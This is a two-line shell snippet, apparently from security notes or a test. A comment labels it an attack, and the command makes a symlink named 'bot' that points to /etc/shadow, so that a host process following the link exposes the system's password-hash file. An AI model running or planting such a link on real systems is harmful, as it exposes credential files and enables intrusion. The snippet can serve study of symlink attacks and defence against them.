# attack: the result is a link to what the host can read
ln -s /etc/shadow bot
